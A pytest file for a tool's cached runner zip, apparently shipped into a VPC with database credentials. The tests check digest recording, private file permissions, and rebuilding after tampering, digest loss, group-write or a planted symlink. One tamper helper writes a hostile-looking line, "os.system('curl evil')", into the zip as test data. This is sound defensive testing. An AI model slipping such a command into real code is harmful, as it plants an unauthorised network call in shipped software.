"""The in-VPC runner's cached code (~/.cache/tapcheck/runner-*.zip) is shipped into the VPC with the
database credentials beside it: it is used only while it is what was built (its recorded sha256, a
regular file of this user's that nobody else may write); anything else is rebuilt, saying so."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest

from tapcheck.live import runner


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict:
    """A private cache, a two-file package and no wheels (nothing downloaded); `built` counts the builds."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "a.py").write_text("A = 1\n")
    (package / "b.py").write_text("B = 2\n")
    monkeypatch.setattr(
        runner, "_package_files", lambda: [(p, f"tapcheck/{p.name}") for p in sorted(package.iterdir())]
    )
    state = {"built": 0, "dir": tmp_path / "cache" / "tapcheck"}

    def wheels() -> list:
        state["built"] += 1
        return []

    monkeypatch.setattr(runner, "wheels", wheels)
    return state


def _cached(cache: dict) -> Path:
    (path,) = cache["dir"].glob("runner-*.zip")
    return path


def test_a_build_is_cached_with_its_digest_privately_and_reused(cache) -> None:
    first = runner.build_zip()
    assert runner.build_zip() == first and cache["built"] == 1
    path = _cached(cache)
    assert sorted(p.name for p in cache["dir"].iterdir()) == [path.name, path.name + ".sha256"]
    assert (
        path.stat().st_mode & 0o777 == 0o600
        and (cache["dir"] / (path.name + ".sha256")).stat().st_mode & 0o777 == 0o600
    )
    with zipfile.ZipFile(path) as z:
        assert z.namelist() == ["tapcheck/a.py", "tapcheck/b.py"]


def _tamper(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("tapcheck/evil.py", "import os; os.system('curl evil')\n")


@pytest.mark.parametrize(
    "damage, said",
    [
        (_tamper, "does not match the sha256 recorded when it was built"),
        (lambda p: p.with_name(p.name + ".sha256").unlink(), "has no recorded digest"),
        (lambda p: p.chmod(0o664), "is another user's or writable by others"),
    ],
    ids=["tampered", "no-digest", "group-writable"],
)
def test_a_cache_that_is_not_what_was_built_is_rebuilt(cache, capsys, damage, said) -> None:
    first = runner.build_zip()
    damage(_cached(cache))
    again = runner.build_zip()
    assert cache["built"] == 2 and again == first
    with zipfile.ZipFile(_cached(cache)) as z:
        assert "tapcheck/evil.py" not in z.namelist()
    err = capsys.readouterr().err
    assert f"cached runner code {_cached(cache)} {said}; rebuilding it" in err, err


def test_a_link_planted_at_the_cache_path_is_neither_used_nor_written_through(cache, tmp_path, capsys) -> None:
    first = runner.build_zip()
    path = _cached(cache)
    elsewhere = tmp_path / "planted.zip"
    elsewhere.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(elsewhere)
    planted = elsewhere.read_bytes()
    assert runner.build_zip() == first and cache["built"] == 2
    assert not path.is_symlink() and elsewhere.read_bytes() == planted
    assert "is not a regular file; rebuilding it" in capsys.readouterr().err
    assert os.stat(path).st_uid == os.geteuid()
